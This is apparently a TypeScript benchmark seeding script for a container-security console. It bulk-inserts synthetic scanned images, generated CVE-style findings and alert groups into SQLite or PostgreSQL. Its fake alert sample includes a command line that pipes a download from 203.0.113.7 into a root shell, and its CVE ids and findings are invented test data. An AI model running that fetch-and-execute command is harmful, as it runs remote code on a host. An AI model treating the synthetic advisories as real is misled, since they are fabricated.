// The console's scale data set (issue 13): images with realistic
// vulnerability findings and a large number of alert groups, written into one
// project of a real store (SQLite or PostgreSQL) with bulk inserts through
// the store (its native SQLite connection, or unnest() arrays on PostgreSQL),
// in transactions of tens of thousands of rows. Seeded
// (bench/lib/rng.ts), so every run and machine gets the same rows.
//
// Images: `registry:registry.example.com/team-T/app-N:1.K` over 40 teams,
// Debian/Alpine/Ubuntu; 95% scanned (one succeeded scan each); per scanned
// image 0 to ~400 vulnerabilities (15% none, the rest log-normal around 45)
// drawn from 3,000 advisories over 60 packages, severity mix critical 3%,
// high 17%, medium 40%, low 33%, unknown 7%; 60% have a fixed version; each
// with CVSS, fix status and the layer that brought it (the stored report
// entry, ~300 bytes). The image's counts are those of its findings.
// Alert groups: catalog types, one subject each (container, pod or host),
// last seen over the last 30 days (newest first denser), 70% open, severity
// mix as ingest produces it, a sample alert of ~350 bytes.
import { ALERT_CATALOG } from '../../src/core/alerts/catalog.js';
import { SEVERITY_RANK } from '../../src/node/store/alert-groups.js';
import { newId } from '../../src/node/store/ids.js';
import { sql } from 'kysely';
import type { Store } from '../../src/node/store/store.js';
import { splitRef } from '../../src/node/services/images.js';
import { rng } from './rng.js';

export interface SeedCounts {
  images: number;
  findings: number;
  alerts: number;
}

const PACKAGES = [
  'openssl', 'libssl3', 'glibc', 'libc6', 'zlib1g', 'curl', 'libcurl4', 'libxml2', 'perl-base', 'bash', 'tar', 'gzip', 'libgcrypt20', 'libgnutls30', 'krb5',
  'libkrb5-3', 'sqlite3', 'libsqlite3-0', 'expat', 'libexpat1', 'busybox', 'musl', 'apk-tools', 'ncurses', 'libncursesw6', 'pcre2', 'libpcre2-8-0', 'systemd',
  'libsystemd0', 'util-linux', 'libblkid1', 'e2fsprogs', 'shadow', 'login', 'coreutils', 'dpkg', 'apt', 'gnupg', 'libgpg-error0', 'libtasn1-6', 'p11-kit',
  'openldap', 'libldap-2.5-0', 'libssh2-1', 'nghttp2', 'libidn2-0', 'libzstd1', 'xz-utils', 'liblzma5', 'bzip2', 'libbz2-1.0', 'libtiff6', 'libpng16-16',
  'libjpeg62-turbo', 'freetype', 'python3.11', 'libpython3.11', 'git', 'wget', 'unzip',
]; // prettier-ignore
const SEV = ['critical', 'high', 'medium', 'low', 'unknown'] as const;
const SEV_CUM = [0.03, 0.2, 0.6, 0.93, 1];
const OS = [
  ['debian', '12'],
  ['debian', '11'],
  ['alpine', '3.19'],
  ['ubuntu', '22.04'],
] as const;
const LAYERS = [
  '/bin/sh -c #(nop) ADD file:4b1b... in /',
  'RUN apt-get update && apt-get install -y curl ca-certificates',
  'COPY app /app',
  'RUN pip install -r requirements.txt',
];

const pick = <T>(r: () => number, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
const hex = (r: () => number, n: number) => Array.from({ length: n }, () => Math.floor(r() * 16).toString(16)).join('');

/**
 * Inserts rows, `perTx` per transaction. SQLite: the store's native
 * connection, one prepared statement per table; PostgreSQL: one
 * `insert ... select * from unnest(arrays)` per 5,000 rows.
 */
async function bulk(store: Store, table: string, rows: Iterable<Record<string, unknown>>, perTx = 20_000): Promise<number> {
  let n = 0;
  let buf: Record<string, unknown>[] = [];
  const flush = async () => {
    if (!buf.length) return;
    const batch = buf;
    buf = [];
    const cols = Object.keys(batch[0]!);
    if (store.sqlite) {
      const stmt = store.sqlite.prepare(`insert into ${table} (${cols.join(', ')}) values (${cols.map(() => '?').join(', ')})`);
      store.sqlite.transaction(() => {
        for (const r of batch) stmt.run(cols.map((c) => r[c]));
      })();
      return;
    }
    const type = (c: string) => (batch.some((r) => typeof r[c] === 'number') ? 'int' : 'text');
    await store.db.transaction().execute(async (trx) => {
      for (let i = 0; i < batch.length; i += 5000) {
        const part = batch.slice(i, i + 5000);
        const arrays = cols.map((c) => sql`${part.map((r) => r[c] ?? null)}::${sql.raw(type(c))}[]`);
        await sql`insert into ${sql.table(table)} (${sql.join(cols.map((c) => sql.ref(c)))}) select * from unnest(${sql.join(arrays)})`.execute(trx);
      }
    });
  };
  for (const row of rows) {
    buf.push(row);
    n++;
    if (buf.length >= perTx) await flush();
  }
  await flush();
  return n;
}

/** Seeds `images` images (with findings and scans) and `alerts` alert groups into the project. */
export async function seedConsoleScale(
  store: Store,
  projectId: string,
  o: { images: number; alerts: number; now: Date; log?: (s: string) => void },
): Promise<SeedCounts> {
  const log = o.log ?? (() => {});
  const r = rng(13);
  const advisories = Array.from({ length: 3000 }, (_, i) => {
    const s = r();
    const sev = SEV[SEV_CUM.findIndex((c) => s < c)]!;
    const year = 2018 + Math.floor(r() * 8);
    return {
      id: `CVE-${year}-${10000 + i}`,
      pkg: pick(r, PACKAGES),
      sev,
      fixed: r() < 0.6,
      score: { critical: 9.8, high: 7.5, medium: 5.3, low: 3.1, unknown: 0 }[sev],
    };
  });
  const now = o.now.toISOString();
  const images: Record<string, unknown>[] = [];
  const scans: Record<string, unknown>[] = [];
  const findings: Record<string, unknown>[] = [];
  const t0 = o.now.getTime() - 40 * 86400_000;
  let t = performance.now();
  let nFindings = 0;
  // Every 500 images: their rows (images first, for the foreign keys), then the next 500.
  const flush = async () => {
    await bulk(store, 'images', images);
    await bulk(store, 'scans', scans);
    nFindings += await bulk(store, 'findings', findings);
    images.length = scans.length = findings.length = 0;
  };
  for (let i = 0; i < o.images; i++) {
    if (images.length === 500) await flush();
    const created = new Date(t0 + Math.floor((i / o.images) * 39 * 86400_000)).toISOString();
    const id = newId(Date.parse(created));
    const ref = `registry:registry.example.com/team-${i % 40}/app-${i}:1.${i % 17}`;
    const [os, osv] = pick(r, OS);
    const scanned = r() < 0.95;
    const counts = { critical: 0, high: 0, medium: 0, low: 0, unknown: 0 };
    let scanId: string | null = null;
    if (scanned) {
      scanId = newId(Date.parse(created) + 1000);
      scans.push({
        id: scanId, project_id: projectId, image_id: id, status: 'succeeded', progress: 100, error: '', attempts: 1, trigger: 'sync', worker: 'bench',
        created_at: created, started_at: created, finished_at: created,
      }); // prettier-ignore
      const n = r() < 0.15 ? 0 : Math.min(400, Math.round(Math.exp(Math.log(45) + 0.9 * gauss(r))));
      const seen = new Set<number>();
      const layers = Array.from({ length: 4 }, (_, k) => ({ index: k, digest: `sha256:${hex(r, 64)}`, createdBy: LAYERS[k]! }));
      for (let k = 0; k < n; k++) {
        const a = Math.floor(r() * advisories.length);
        if (seen.has(a)) continue;
        seen.add(a);
        const adv = advisories[a]!;
        counts[adv.sev]++;
        const layer = layers[k % 3]!;
        const installed = `${1 + (a % 3)}.${a % 10}.${a % 7}-1`;
        const fixedVersion = adv.fixed ? `${1 + (a % 3)}.${a % 10}.${(a % 7) + 1}-1` : '';
        findings.push({
          id: newId(Date.parse(created) + 2000),
          image_id: id,
          scan_id: scanId,
          kind: 'vuln',
          ref_id: adv.id,
          package: adv.pkg,
          installed_version: installed,
          fixed_version: fixedVersion,
          severity: adv.sev,
          title: `${adv.pkg}: ${adv.sev} issue in input handling`,
          data: JSON.stringify({
            cvss: adv.score ? { nvd: { score: adv.score, vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H' } } : {},
            status: adv.fixed ? 'fixed' : 'affected',
            layer,
            references: [`https://nvd.nist.gov/vuln/detail/${adv.id}`],
          }),
          layer_digest: layer.digest,
        });
      }
    }
    images.push({
      id, project_id: projectId, registry_id: null, ref, ...splitRef(ref), digest: `sha256:${hex(r, 64)}`, os_family: scanned ? os : '',
      os_version: scanned ? osv : '', last_scan_id: scanId, last_scan_at: scanned ? created : null, ...counts, created_at: created, updated_at: now,
    }); // prettier-ignore
  }
  await flush();
  log(`  seeded ${o.images} images and ${nFindings} findings in ${((performance.now() - t) / 1000).toFixed(1)} s`);

  t = performance.now();
  const types = ALERT_CATALOG.filter((c) => !c.id.startsWith('cluster/')).slice(0, 40);
  const statuses = (x: number) => (x < 0.7 ? 'open' : x < 0.9 ? 'handled' : x < 0.95 ? 'ignored' : 'false-positive');
  const end = o.now.getTime();
  function* alerts() {
    for (let i = 0; i < o.alerts; i++) {
      const type = pick(r, types);
      const sevIdx = Math.min(4, Math.max(0, SEVERITY_RANK[type.defaultSeverity] + (r() < 0.2 ? -1 : 0)));
      const severity = (['info', 'low', 'medium', 'high', 'critical'] as const)[sevIdx]!;
      // Newest first denser: age in days ~ 30 * u^2.
      const age = 30 * 86400_000 * r() ** 2;
      const last = new Date(end - age);
      const first = new Date(last.getTime() - Math.floor(r() * 3 * 86400_000));
      const container = hex(r, 12);
      const host = `node-${i % 300}`;
      const subject = i % 10 === 9 ? `host:${host}:${i}` : `container:${container}${i.toString(16)}`;
      yield {
        id: newId(last.getTime()),
        project_id: projectId,
        type: type.id,
        severity,
        severity_rank: sevIdx,
        subject,
        status: statuses(r()),
        count: 1 + Math.floor(r() ** 3 * 200),
        first_seen: first.toISOString(),
        last_seen: last.toISOString(),
        message: `${type.title} in container ${container} on ${host}`,
        rule: type.id.split('/')[1]!,
        host,
        sample: JSON.stringify({
          id: `a-${i}`,
          type: type.id,
          severity,
          time: last.toISOString(),
          message: `${type.title} in container ${container}`,
          rule: type.id.split('/')[1],
          host,
          process: { pid: 1000 + (i % 30000), name: 'sh', cmdline: 'sh -c curl http://203.0.113.7/x | sh', user: 'root' },
          container: { id: container, name: `app-${i % 500}`, image: `registry.example.com/team-${i % 40}/app-${i % 500}:1.0` },
        }),
      };
      if (i % 200_000 === 199_999) log(`  ${i + 1} alert groups...`);
    }
  }
  const nAlerts = await bulk(store, 'alerts', alerts(), 50_000);
  log(`  seeded ${nAlerts} alert groups in ${((performance.now() - t) / 1000).toFixed(1)} s`);
  return { images: o.images, findings: nFindings, alerts: nAlerts };
}

/** A standard normal draw (Box-Muller). */
function gauss(r: () => number): number {
  return Math.sqrt(-2 * Math.log(1 - r())) * Math.cos(2 * Math.PI * r());
}
